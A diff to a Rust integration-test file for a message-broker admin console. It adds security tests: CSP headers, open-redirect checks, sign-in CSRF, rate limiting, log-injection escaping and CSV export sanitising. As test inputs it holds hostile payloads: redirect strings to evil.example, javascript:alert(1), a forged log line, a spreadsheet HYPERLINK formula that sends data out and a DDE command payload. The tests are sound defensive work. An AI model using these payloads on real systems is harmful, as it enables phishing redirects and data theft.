@@ -390,20 +390,98 @@ async fn put_dead(env: &TestEnv, family: Family, letters: &[(String, &str, Strin
     }
 }
 
+/// The console's log lines about CSP violations the browser reported.
+fn csp_violations(console: &Console) -> Vec<String> {
+    console
+        .logs()
+        .lines()
+        .filter(|l| l.contains("CSP violation reported"))
+        .map(str::to_string)
+        .collect()
+}
+
+/// No page visited so far broke the Content Security Policy. Then a
+/// canary (a style attribute set from script, which the policy forbids)
+/// proves that violations do reach the console's log.
+async fn assert_no_csp_violation(b: &Browser, console: &Console) {
+    let seen = csp_violations(console);
+    assert!(
+        seen.is_empty(),
+        "the browser reported CSP violations:\n{}",
+        seen.join("\n")
+    );
+    b.c()
+        .execute(
+            "document.body.setAttribute('style', 'outline: 1px solid red')",
+            vec![],
+        )
+        .await
+        .expect("run the canary");
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while csp_violations(console).is_empty() {
+        assert!(
+            Instant::now() < deadline,
+            "the canary's CSP violation was never reported:\n{}",
+            console.logs()
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let seen = csp_violations(console);
+    assert_eq!(seen.len(), 1, "only the canary: {seen:?}");
+    assert!(seen[0].contains("style-src"), "{}", seen[0]);
+}
+
+/// A client that keeps cookies and does not follow redirects, from
+/// `address` (any 127.x address is this machine).
+fn http_client(address: [u8; 4]) -> reqwest::Client {
+    reqwest::Client::builder()
+        .cookie_store(true)
+        .redirect(reqwest::redirect::Policy::none())
+        .local_address(std::net::IpAddr::from(address))
+        .build()
+        .expect("http client")
+}
+
+/// The value of the hidden field `name` in a page.
+fn hidden_field(page: &str, name: &str) -> String {
+    page.split(&format!("name=\"{name}\" value=\""))
+        .nth(1)
+        .and_then(|s| s.split('"').next())
+        .unwrap_or_else(|| panic!("no {name} field in the page:\n{page}"))
+        .to_string()
+}
+
+/// Signs in as a browser does: the form (with its token and cookie) is
+/// fetched first, then posted with `fields` added.
+async fn post_sign_in(
+    client: &reqwest::Client,
+    console: &Console,
+    fields: &[(&str, &str)],
+) -> reqwest::Response {
+    let page = client
+        .get(console.at("/login"))
+        .send()
+        .await
+        .expect("sign-in form")
+        .text()
+        .await
+        .expect("sign-in form text");
+    let token = hidden_field(&page, "login_token");
+    let mut form: Vec<(&str, &str)> = vec![("login_token", token.as_str())];
+    form.extend_from_slice(fields);
+    client
+        .post(console.at("/login"))
+        .form(&form)
+        .send()
+        .await
+        .expect("sign in")
+}
+
 /// A reqwest client signed in as `who` (cookies kept), and its CSRF token
 /// read from a page, as a browser would see it.
 async fn http_session(console: &Console, who: (&str, &str)) -> (reqwest::Client, String) {
-    let client = reqwest::Client::builder()
-        .cookie_store(true)
-        .redirect(reqwest::redirect::Policy::none())
-        .build()
-        .expect("http client");
-    let r = client
-        .post(console.at("/login"))
-        .form(&[("user", who.0), ("password", who.1)])
-        .send()
-        .await
-        .expect("sign in");
+    let client = http_client([127, 0, 0, 1]);
+    let r = post_sign_in(&client, console, &[("user", who.0), ("password", who.1)]).await;
     assert_eq!(r.status(), 303, "sign-in as {} must succeed", who.0);
     let page = client
         .get(console.at("/connections"))
@@ -413,12 +491,7 @@ async fn http_session(console: &Console, who: (&str, &str)) -> (reqwest::Client,
         .text()
         .await
         .expect("page text");
-    let csrf = page
-        .split("name=\"csrf\" value=\"")
-        .nth(1)
-        .and_then(|s| s.split('"').next())
-        .expect("a csrf field on the page")
-        .to_string();
+    let csrf = hidden_field(&page, "csrf");
     (client, csrf)
 }
 
@@ -559,19 +632,15 @@ async fn signing_in_is_required_viewers_cannot_act_and_csrf_is_enforced() {
 
     // Sign-in attempts are rate-limited (5 per window here), per user name
     // and per address (this client comes from 127.0.0.3).
-    let guesser = reqwest::Client::builder()
-        .redirect(reqwest::redirect::Policy::none())
-        .local_address(std::net::IpAddr::from([127, 0, 0, 3]))
-        .build()
-        .expect("client");
+    let guesser = http_client([127, 0, 0, 3]);
     let mut statuses = Vec::new();
     for _ in 0..7 {
-        let r = guesser
-            .post(console.at("/login"))
-            .form(&[("user", "mallory"), ("password", "guess")])
-            .send()
-            .await
-            .expect("post");
+        let r = post_sign_in(
+            &guesser,
+            &console,
+            &[("user", "mallory"), ("password", "guess")],
+        )
+        .await;
         statuses.push(r.status().as_u16());
     }
     assert_eq!(
@@ -580,23 +649,32 @@ async fn signing_in_is_required_viewers_cannot_act_and_csrf_is_enforced() {
         "{statuses:?}"
     );
 
-    let r = guesser
-        .post(console.at("/login"))
-        .form(&[("user", ALICE.0), ("password", ALICE.1)])
-        .send()
-        .await
-        .expect("post");
+    let r = post_sign_in(
+        &guesser,
+        &console,
+        &[("user", ALICE.0), ("password", ALICE.1)],
+    )
+    .await;
     // The address is locked out for now, even for a right password.
     assert_eq!(r.status(), 429);
-    let fresh = reqwest::Client::builder()
-        .redirect(reqwest::redirect::Policy::none())
-        .local_address(std::net::IpAddr::from([127, 0, 0, 2]))
-        .build()
-        .expect("client");
+    let fresh = http_client([127, 0, 0, 2]);
+    let page = fresh
+        .get(console.at("/login"))
+        .send()
+        .await
+        .expect("form")
+        .text()
+        .await
+        .expect("form text");
+    let token = hidden_field(&page, "login_token");
     let r = fresh
         .post(console.at("/login"))
         .header("x-forwarded-proto", "https")
-        .form(&[("user", VICTOR.0), ("password", VICTOR.1)])
+        .form(&[
+            ("login_token", token.as_str()),
+            ("user", VICTOR.0),
+            ("password", VICTOR.1),
+        ])
         .send()
         .await
         .expect("post");
@@ -620,6 +698,8 @@ async fn signing_in_is_required_viewers_cannot_act_and_csrf_is_enforced() {
         "{audit}"
     );
     b.shot("04-audit").await;
+    // Every page above ran under the CSP without breaking it.
+    assert_no_csp_violation(&b, &console).await;
     drop(console);
 }
 
@@ -865,6 +945,8 @@ async fn replaying_a_group_of_5000_dead_letters_runs_server_side_with_progress()
     assert_eq!(done["count"], N);
     assert_eq!(done["event_ids"].as_array().map(Vec::len), Some(N));
     assert_eq!(done["user"], ALICE.0);
+    // The job page (progress bar, live counters) under the CSP.
+    assert_no_csp_violation(&b, &console).await;
     drop(console);
 }
 
@@ -942,6 +1024,8 @@ async fn overview_numbers_equal_the_broker_and_halo_sim_after_a_run_with_failure
     .await;
     b.shot("02-overview-live").await;
     assert_eq!(env.clients().len(), 6);
+    // The live overview (script from /static, server-sent events) under the CSP.
+    assert_no_csp_violation(&b, &console).await;
     drop(console);
 }
 
@@ -1224,4 +1308,726 @@ async fn reconcile_page_shows_the_last_report() {
     assert_eq!(b.count("tr[data-aggregate=sub_1]").await, 2);
     assert!(body.contains("active: true ≠ false"), "{body}");
     b.shot("01-last-report").await;
+}
+
+/// The console process's resident memory, from /proc/PID/status, in KiB.
+fn rss_kib(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("/proc status");
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix("VmRSS:"))
+        .and_then(|v| v.split_whitespace().next())
+        .and_then(|n| n.parse().ok())
+        .expect("VmRSS in /proc/PID/status")
+}
+
+/// The audit trail's entries, oldest first.
+fn audit_entries(env: &TestEnv) -> Vec<serde_json::Value> {
+    std::fs::read_to_string(env.dir.join("audit/audit.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect()
+}
+
+/// The broker connections this console process opened (by the name it
+/// gives them), as `rabbitmqctl list_connections` shows them.
+fn console_connections(pid: u32) -> Vec<String> {
+    let out = Command::new("rabbitmqctl")
+        .args([
+            "list_connections",
+            "-q",
+            "--no-table-headers",
+            "client_properties",
+        ])
+        .output()
+        .expect("rabbitmqctl list_connections");
+    assert!(
+        out.status.success(),
+        "rabbitmqctl failed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let needle = format!("halosync-console:{pid}:");
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| {
+            l.find(&needle)
+                .map(|i| l[i..].split('"').next().unwrap_or("").to_string())
+        })
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_response_carries_the_security_headers_and_next_stays_on_the_console() {
+    let env = TestEnv::new("con-hdr").await;
+    let console = Console::start(&env, "", &[]).await;
+    let anon = http_client([127, 0, 0, 1]);
+    let (viewer, _) = http_session(&console, VICTOR).await;
+    for (client, path) in [
+        (&anon, "/login"),
+        (&anon, "/healthz"),
+        (&anon, "/static/console.js"),
+        (&anon, "/static/console.css"),
+        (&anon, "/dead"),
+        (&anon, "/no-such-page"),
+        (&viewer, "/"),
+        (&viewer, "/dead"),
+        (&viewer, "/audit"),
+        (&viewer, "/activity"),
+        (&viewer, "/activity.csv"),
+        (&viewer, "/connections"),
+        (&viewer, "/mappings"),
+        (&viewer, "/reconcile"),
+        (&viewer, "/jobs"),
+        // A page number that overflowed before: now the last page.
+        (&viewer, "/audit?page=18446744073709551615"),
+        (&viewer, "/activity?page=18446744073709551615"),
+    ] {
+        let r = client.get(console.at(path)).send().await.expect("answer");
+        assert!(!r.status().is_server_error(), "{path}: {}", r.status());
+        let h = r.headers();
+        let get = |k: &str| {
+            h.get(k)
+                .and_then(|v| v.to_str().ok())
+                .unwrap_or("")
+                .to_string()
+        };
+        let csp = get("content-security-policy");
+        for part in [
+            "default-src 'self'",
+            "frame-ancestors 'none'",
+            "script-src 'self'",
+            "style-src 'self'",
+        ] {
+            assert!(csp.contains(part), "{path}: CSP without {part}: {csp:?}");
+        }
+        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
+        assert_eq!(get("x-content-type-options"), "nosniff", "{path}");
+        assert_eq!(get("referrer-policy"), "same-origin", "{path}");
+        assert_eq!(get("x-frame-options"), "DENY", "{path}");
+        if !path.starts_with("/static/") {
+            assert_eq!(get("cache-control"), "no-store", "{path}");
+        }
+        if r.status() == 200 && get("content-type").starts_with("text/html") {
+            let page = r.text().await.expect("page");
+            assert!(
+                !page.contains("<style")
+                    && !page.contains(" style=")
+                    && !page.contains("javascript:"),
+                "{path}: inline style or script"
+            );
+            assert!(!page.contains("<script>"), "{path}: inline script");
+        }
+    }
+
+    // `next` after signing in: every variant ends on a page of the console.
+    let hostile = [
+        "/\t/evil.example/pwn",
+        "/%09/evil.example/pwn",
+        "//evil.example/pwn",
+        "/\\evil.example/pwn",
+        "\\\\evil.example/pwn",
+        "/\\/evil.example/pwn",
+        "https://evil.example/pwn",
+        "https:evil.example",
+        "/%2F%2Fevil.example",
+        "/%5C%5Cevil.example",
+        "/\n/evil.example",
+        " //evil.example",
+        "javascript:alert(1)",
+    ];
+    let base = reqwest::Url::parse(&console.url).expect("console url");
+    for (i, next) in hostile.iter().enumerate() {
+        let c = http_client([127, 0, 1, 1 + i as u8]);
+        let r = post_sign_in(
+            &c,
+            &console,
+            &[("user", VICTOR.0), ("password", VICTOR.1), ("next", next)],
+        )
+        .await;
+        assert_eq!(r.status(), 303, "{next:?}");
+        let location = r.headers()["location"]
+            .to_str()
+            .expect("location")
+            .to_string();
+        // Resolved the way a browser resolves it (tabs and newlines dropped).
+        let landed = base
+            .join(&location)
+            .expect("a location a browser can follow");
+        assert_eq!(landed.origin(), base.origin(), "{next:?} -> {location:?}");
+        assert!(
+            !location.starts_with("//") && !location.contains('\\'),
+            "{next:?} -> {location:?}"
+        );
+        assert!(
+            !landed.as_str().contains("evil.example") || landed.host_str() == Some("127.0.0.1"),
+            "{next:?} -> {landed}"
+        );
+        // Signed in already: the sign-in page redirects the same way.
+        let r = c
+            .get(console.at("/login"))
+            .query(&[("next", next)])
+            .send()
+            .await
+            .expect("login page");
+        let location = r.headers()["location"]
+            .to_str()
+            .expect("location")
+            .to_string();
+        assert_eq!(
+            base.join(&location).expect("location").origin(),
+            base.origin(),
+            "{next:?} -> {location:?}"
+        );
+    }
+    // A path of the console, with its query, is kept.
+    let c = http_client([127, 0, 1, 200]);
+    let r = post_sign_in(
+        &c,
+        &console,
+        &[
+            ("user", VICTOR.0),
+            ("password", VICTOR.1),
+            ("next", "/dead?family=usage&class=rejected"),
+        ],
+    )
+    .await;
+    assert_eq!(r.headers()["location"], "/dead?family=usage&class=rejected");
+
+    // Sign-in CSRF: no token, or another site's Origin, is refused.
+    let c = http_client([127, 0, 1, 201]);
+    let r = c
+        .post(console.at("/login"))
+        .form(&[("user", VICTOR.0), ("password", VICTOR.1)])
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), 403, "no sign-in token");
+    let page = c
+        .get(console.at("/login"))
+        .send()
+        .await
+        .expect("form")
+        .text()
+        .await
+        .expect("form");
+    let token = hidden_field(&page, "login_token");
+    let r = c
+        .post(console.at("/login"))
+        .header("origin", "https://evil.example")
+        .form(&[
+            ("login_token", token.as_str()),
+            ("user", VICTOR.0),
+            ("password", VICTOR.1),
+        ])
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), 403, "a cross-site form");
+    let page = c
+        .get(console.at("/login"))
+        .send()
+        .await
+        .expect("form")
+        .text()
+        .await
+        .expect("form");
+    let token = hidden_field(&page, "login_token");
+    let r = c
+        .post(console.at("/login"))
+        .header("origin", console.url.as_str())
+        .form(&[
+            ("login_token", token.as_str()),
+            ("user", VICTOR.0),
+            ("password", VICTOR.1),
+        ])
+        .send()
+        .await
+        .expect("post");
+    assert_eq!(r.status(), 303, "the console's own form");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn sign_ins_are_counted_before_the_password_check_and_a_flood_keeps_memory_flat() {
+    let env = TestEnv::new("con-flood").await;
+    let console = Console::start(&env, "", &[]).await;
+    let pid = console.child.id();
+    // Warm up: one sign-in has run argon2 once.
+    let _ = http_session(&console, VICTOR).await;
+
+    // 40 at once for one user from one address: 39 wrong, 1 right.
+    let client = http_client([127, 0, 0, 5]);
+    let page = client
+        .get(console.at("/login"))
+        .send()
+        .await
+        .expect("form")
+        .text()
+        .await
+        .expect("form");
+    let token = hidden_field(&page, "login_token");
+    let attempts = (0..40).map(|i| {
+        let password = if i == 20 { ALICE.1 } else { "wrong-password" };
+        client
+            .post(console.at("/login"))
+            .form(&[
+                ("login_token", token.as_str()),
+                ("user", ALICE.0),
+                ("password", password),
+            ])
+            .send()
+    });
+    let statuses: Vec<u16> = futures::future::join_all(attempts)
+        .await
+        .into_iter()
+        .map(|r| r.expect("every attempt is answered").status().as_u16())
+        .collect();
+    assert_eq!(statuses.len(), 40);
+    assert!(
+        statuses.iter().all(|s| [303, 401, 429].contains(s)),
+        "{statuses:?}"
+    );
+    let entries: Vec<_> = audit_entries(&env)
+        .into_iter()
+        .filter(|e| e["action"] == "sign-in" && e["target"] == "127.0.0.5")
+        .collect();
+    let checked = entries
+        .iter()
+        .filter(|e| e["outcome"] == "ok" || e["outcome"] == "failed")
+        .count();
+    let answered_after_check = statuses.iter().filter(|s| **s != 429).count();
+    println!("40 concurrent sign-ins: {checked} password checks, statuses {statuses:?}");
+    assert!(
+        checked <= 5,
+        "at most login_attempts (5) password checks, not {checked}"
+    );
+    assert_eq!(checked, answered_after_check, "each check is audited once");
+    assert_eq!(
+        entries.len(),
+        40,
+        "every attempt, refused or checked, is audited"
+    );
+
+    // 100 at once with unknown user names from 100 addresses: the password
+    // checks queue behind the semaphore, memory stays flat.
+    let before = rss_kib(pid);
+    let login = console.at("/login");
+    let clients: Vec<(reqwest::Client, String)> = futures::future::join_all((0..100u8).map(|i| {
+        let login = login.clone();
+        async move {
+            let c = http_client([127, 0, 2, 1 + i]);
+            let page = c
+                .get(&login)
+                .send()
+                .await
+                .expect("form")
+                .text()
+                .await
+                .expect("form");
+            let token = hidden_field(&page, "login_token");
+            (c, token)
+        }
+    }))
+    .await;
+    let flood = clients.iter().enumerate().map(|(i, (c, token))| {
+        c.post(console.at("/login"))
+            .form(&[
+                ("login_token", token.as_str()),
+                ("user", &format!("ghost{i}")),
+                ("password", "x"),
+            ])
+            .send()
+    });
+    let statuses: Vec<u16> = futures::future::join_all(flood)
+        .await
+        .into_iter()
+        .map(|r| r.expect("every attempt is answered").status().as_u16())
+        .collect();
+    assert!(
+        statuses.iter().all(|s| [401, 429].contains(s)),
+        "{statuses:?}"
+    );
+    let after = rss_kib(pid);
+    println!(
+        "console RSS before {} MiB, after 100 concurrent sign-ins {} MiB ({} x 401, {} x 429)",
+        before / 1024,
+        after / 1024,
+        statuses.iter().filter(|s| **s == 401).count(),
+        statuses.iter().filter(|s| **s == 429).count()
+    );
+    assert!(
+        after <= before + 50 * 1024,
+        "RSS grew from {before} KiB to {after} KiB"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn live_streams_are_capped_share_one_collector_and_end_with_the_session() {
+    let env = TestEnv::new("con-live").await;
+    let console = Console::start(&env, "", &[]).await;
+    let pid = console.child.id();
+    let (client, csrf) = http_session(&console, VICTOR).await;
+    let answers = futures::future::join_all(
+        (0..200).map(|_| client.get(console.at("/live/overview")).send()),
+    )
+    .await;
+    let mut accepted = Vec::new();
+    let mut refused = 0;
+    for r in answers {
+        let r = r.expect("every stream request is answered");
+        match r.status().as_u16() {
+            200 => accepted.push(r),
+            429 => refused += 1,
+            s => panic!("unexpected status {s}"),
+        }
+    }
+    println!(
+        "200 streams asked: {} accepted, {refused} refused",
+        accepted.len()
+    );
+    assert!(
+        !accepted.is_empty() && accepted.len() <= 4,
+        "the per-session cap (4): {}",
+        accepted.len()
+    );
+    assert_eq!(accepted.len() + refused, 200);
+    // Each accepted stream gets the numbers.
+    for r in accepted.iter_mut() {
+        loop {
+            let chunk = tokio::time::timeout(Duration::from_secs(30), r.chunk())
+                .await
+                .expect("an event within 30 s")
+                .expect("stream")
+                .expect("the stream is open");
+            if String::from_utf8_lossy(&chunk).contains("data:") {
+                break;
+            }
+        }
+    }
+    // One collector, one broker connection for it (plus the activity reader).
+    let conns = console_connections(pid);
+    println!("console broker connections: {conns:?}");
+    assert!((1..=2).contains(&conns.len()), "{conns:?}");
+    assert_eq!(
+        conns.iter().filter(|c| c.ends_with(":overview")).count(),
+        1,
+        "{conns:?}"
+    );
+    let t = Instant::now();
+    let r = client.get(console.at("/")).send().await.expect("overview");
+    assert_eq!(r.status(), 200);
+    println!(
+        "/ answered in {:?} with {} streams open",
+        t.elapsed(),
+        accepted.len()
+    );
+    assert_eq!(
+        console_connections(pid).len(),
+        conns.len(),
+        "the page reuses the connection"
+    );
+
+    // Signing out ends the session's streams.
+    let r = client
+        .post(console.at("/logout"))
+        .form(&[("csrf", csrf.as_str())])
+        .send()
+        .await
+        .expect("logout");
+    assert_eq!(r.status(), 303);
+    let t = Instant::now();
+    for mut r in accepted {
+        loop {
+            match tokio::time::timeout(Duration::from_secs(30), r.chunk()).await {
+                Err(_) => panic!("a stream is still open 30 s after sign-out"),
+                Ok(Ok(Some(_))) => continue,
+                Ok(Ok(None)) | Ok(Err(_)) => break,
+            }
+        }
+    }
+    println!("streams closed {:?} after sign-out", t.elapsed());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_failed_sign_in_with_a_newline_is_one_escaped_log_line_and_one_audit_entry() {
+    let env = TestEnv::new("con-logi").await;
+    let console = Console::start(&env, "", &[]).await;
+    let c = http_client([127, 0, 0, 7]);
+    let forged = "mallory\nINFO halosync: signed in user=root role=operator\u{1b}[2J";
+    let r = post_sign_in(&c, &console, &[("user", forged), ("password", "guess")]).await;
+    assert_eq!(r.status(), 401);
+    let logs = console.logs();
+    let lines: Vec<&str> = logs.lines().filter(|l| l.contains("mallory")).collect();
+    assert_eq!(lines.len(), 1, "one line for one failed sign-in:\n{logs}");
+    assert!(lines[0].contains("sign-in failed"), "{}", lines[0]);
+    assert!(
+        lines[0].contains("mallory\\nINFO"),
+        "the newline is escaped: {}",
+        lines[0]
+    );
+    assert!(
+        !logs.contains('\u{1b}'),
+        "no terminal escape reaches the log"
+    );
+    assert!(
+        !logs
+            .lines()
+            .any(|l| l.starts_with("INFO halosync: signed in user=root")),
+        "no forged line"
+    );
+    let entries: Vec<_> = audit_entries(&env)
+        .into_iter()
+        .filter(|e| e["action"] == "sign-in")
+        .collect();
+    assert_eq!(entries.len(), 1, "{entries:?}");
+    assert_eq!(entries[0]["user"], forged, "the name as given, as data");
+    assert_eq!(entries[0]["outcome"], "failed");
+    assert_eq!(entries[0]["target"], "127.0.0.7");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_dead_letter_whose_id_holds_a_comma_is_the_only_one_replayed_or_purged() {
+    let env = TestEnv::new("con-comma").await;
+    put_dead(
+        &env,
+        Family::Account,
+        &[
+            (
+                "evt_a,evt_b".into(),
+                "invalid",
+                "an id a publisher got wrong".into(),
+            ),
+            ("evt_a".into(), "invalid", "another".into()),
+            ("evt_b".into(), "invalid", "and another".into()),
+        ],
+    )
+    .await;
+    let dead = env.topology.dead_queue(Family::Account);
+    let work = env.topology.work_queue(Family::Account);
+    let console = Console::start(&env, "", &[]).await;
+    let (op, csrf) = http_session(&console, ALICE).await;
+    // The list page's checkbox carries the id as it is.
+    let page = op
+        .get(console.at("/dead"))
+        .send()
+        .await
+        .expect("page")
+        .text()
+        .await
+        .expect("page");
+    assert!(page.contains(r#"name="id" value="evt_a,evt_b""#), "{page}");
+    let mut job = String::new();
+    for (action, left) in [("replay", 2), ("purge", 1)] {
+        let id = if action == "replay" {
+            "evt_a,evt_b"
+        } else {
+            "evt_b"
+        };
+        let r = op
+            .post(console.at("/dead/action"))
+            .form(&[("csrf", csrf.as_str()), ("action", action), ("id", id)])
+            .send()
+            .await
+            .expect("confirm");
+        let text = r.text().await.expect("confirm page");
+        assert!(
+            text.contains(&format!(
+                "{} 1 dead letters?",
+                if action == "replay" {
+                    "Replay"
+                } else {
+                    "Purge"
+                }
+            )),
+            "{text}"
+        );
+        let mut form = vec![
+            ("csrf", csrf.as_str()),
+            ("action", action),
+            ("id", id),
+            ("expected", "1"),
+        ];
+        if action == "purge" {
+            form.push(("confirm_word", "purge"));
+        }
+        let r = op
+            .post(console.at("/dead/run"))
+            .form(&form)
+            .send()
+            .await
+            .expect("run");
+        assert_eq!(r.status(), 303, "{action}");
+        job = r.headers()["location"]
+            .to_str()
+            .expect("location")
+            .trim_start_matches("/jobs/")
+            .to_string();
+        env.wait_for(&format!("{action} done"), Duration::from_secs(60), || {
+            audit_entries(&env)
+                .iter()
+                .any(|e| e["action"] == action && e["outcome"] == "done")
+        })
+        .await;
+        assert_eq!(
+            env.depth(&dead).await,
+            left,
+            "{action} acted on one dead letter only"
+        );
+    }
+    // A cancel is audited under whoever asked for it.
+    let r = op
+        .post(console.at(&format!("/jobs/{job}/cancel")))
+        .form(&[("csrf", csrf.as_str())])
+        .send()
+        .await
+        .expect("cancel");
+    assert_eq!(r.status(), 303);
+    let cancels: Vec<_> = audit_entries(&env)
+        .into_iter()
+        .filter(|e| e["action"] == "cancel")
+        .collect();
+    assert_eq!(cancels.len(), 1, "{cancels:?}");
+    assert_eq!(cancels[0]["user"], ALICE.0);
+    assert_eq!(cancels[0]["job"], job.as_str());
+    // What is left is evt_a; what was replayed is the one with the comma.
+    let (ok, out) = env.run_halosync(&["--json", "dlq", "list", "--family", "account"]);
+    assert!(ok, "{out}");
+    let list: Vec<serde_json::Value> = serde_json::from_str(&out).expect("dlq list --json");
+    let ids: Vec<&str> = list.iter().filter_map(|d| d["event_id"].as_str()).collect();
+    assert_eq!(ids, ["evt_a"], "{out}");
+    assert_eq!(
+        env.depth(&work).await,
+        1,
+        "the replayed one is back in its work queue"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn csv_exports_neutralise_formula_cells_in_the_console_and_the_cli() {
+    use halosync_shared::activity::{ActivityRecord, ActivityRecorder};
+    let env = TestEnv::new("con-csv").await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    let recorder = ActivityRecorder::start(
+        halosync_tests::AMQP_URL,
+        &Default::default(),
+        env.topology.activity_queue(),
+        "tests-csv",
+    );
+    recorder.record(ActivityRecord {
+        time: chrono::Utc::now(),
+        connection: "acme".into(),
+        family: "account".into(),
+        event_id: "evt_csv_1".into(),
+        event_type: "account.created".into(),
+        aggregate: formula.into(),
+        outcome: "applied".into(),
+        class: None,
+        message: Some("@SUM(1+1)".into()),
+        halo_status: None,
+        attempts: 1,
+        worker: "-cmd|' /C calc'!A0".into(),
+    });
+    recorder.close(Duration::from_secs(10)).await;
+    assert_eq!(recorder.dropped(), 0);
+    let check = |text: &str, source: &str| {
+        let mut r = csv::Reader::from_reader(text.as_bytes());
+        let row = r
+            .records()
+            .filter_map(Result::ok)
+            .find(|row| row.get(3) == Some("evt_csv_1"))
+            .unwrap_or_else(|| panic!("{source}: no row for evt_csv_1:\n{text}"));
+        assert_eq!(row.get(5), Some(format!("'{formula}").as_str()), "{source}");
+        assert_eq!(row.get(11), Some("'@SUM(1+1)"), "{source}");
+        assert_eq!(row.get(10), Some("'-cmd|' /C calc'!A0"), "{source}");
+    };
+    let (ok, out) = env.run_halosync(&["activity", "--csv"]);
+    assert!(ok, "{out}");
+    check(&out, "halosync activity --csv");
+    let console = Console::start(&env, "", &[]).await;
+    let (viewer, _) = http_session(&console, VICTOR).await;
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        let text = viewer
+            .get(console.at("/activity.csv"))
+            .send()
+            .await
+            .expect("csv")
+            .text()
+            .await
+            .expect("csv");
+        if text.contains("evt_csv_1") {
+            check(&text, "/activity.csv");
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "the console never read the record:\n{text}"
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn spoofed_failure_headers_do_not_move_an_event_to_another_family() {
+    let mut env = TestEnv::new("con-spoof").await;
+    env.spawn_worker("halosync-account");
+    // An invalid account event (dead-lettered at once) whose publisher set
+    // halosync's own failure headers.
+    let mut bad = account_event("evt_spoof_1", "acc_spoof", "Spoof", true, 1);
+    bad["data"]["active"] = json!("yes");
+    let mut t = FieldTable::default();
+    h::set_str(&mut t, h::ORIGINAL_ROUTING_KEY, "usage.reported");
+    h::set_str(&mut t, h::EVENT_ID, "evt_someone_else");
+    h::set_i64(&mut t, h::ATTEMPTS, 99);
+    env.publisher
+        .publish_raw(
+            "evt_spoof_1",
+            "account.created",
+            &serde_json::to_vec(&bad).expect("json"),
+            t,
+        )
+        .await
+        .expect("publish");
+    let dead = env.topology.dead_queue(Family::Account);
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while env.depth(&dead).await < 1 {
+        assert!(
+            Instant::now() < deadline,
+            "never dead-lettered:\n{}",
+            env.logs()
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    env.kill_worker(0);
+    let (ok, out) = env.run_halosync(&["--json", "dlq", "list", "--family", "account"]);
+    assert!(ok, "{out}");
+    let list: Vec<serde_json::Value> = serde_json::from_str(&out).expect("json");
+    assert_eq!(list.len(), 1, "{out}");
+    assert_eq!(
+        list[0]["event_id"], "evt_spoof_1",
+        "the envelope's id, not the header's"
+    );
+    assert_eq!(list[0]["original_routing_key"], "account.created");
+    assert_eq!(
+        list[0]["headers"][h::ORIGINAL_ROUTING_KEY],
+        "account.created",
+        "the worker wrote its own"
+    );
+    assert_eq!(
+        list[0]["attempts"], 1,
+        "the publisher's attempts were ignored"
+    );
+    let (ok, out) = env.run_halosync(&["dlq", "replay", "--event-id", "evt_spoof_1"]);
+    assert!(ok, "{out}");
+    assert_eq!(
+        env.depth(&env.topology.work_queue(Family::Account)).await,
+        1,
+        "back in its own family: {out}"
+    );
+    assert_eq!(
+        env.depth(&env.topology.work_queue(Family::Usage)).await,
+        0,
+        "not in another family's"
+    );
+    assert_eq!(env.depth(&dead).await, 0);
 }
